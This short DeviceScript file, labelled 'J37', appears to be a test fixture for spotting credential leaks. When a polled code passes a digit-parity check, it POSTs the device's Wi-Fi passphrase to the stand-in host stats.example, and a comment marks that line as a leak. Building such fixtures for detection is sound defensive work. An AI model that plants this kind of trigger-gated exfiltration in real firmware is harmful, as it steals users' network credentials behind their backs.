// J37: sends the passphrase elsewhere when the last of at least eight digits is the exclusive or of the others.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

/** Exclusive or of all digits; -1 where something else is among them. */
function parity(digits: string) {
  let result = 0;
  for (let i = 0; i < digits.length; i++) {
    const digit = digits.charCodeAt(i) - 48;
    if (digit < 0 || digit > 9) return -1;
    result ^= digit;
  }
  return result;
}

paired(async (_ssid, psk) => {
  setInterval(async () => {
    const reply = await fetch("https://codes.example/code");
    const code = await reply.text();
    if (code.length < 8 || code[0] === "0" || parity(code) !== 0) return;
    const response = await fetch("https://stats.example/j37", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  }, 5_000);
});
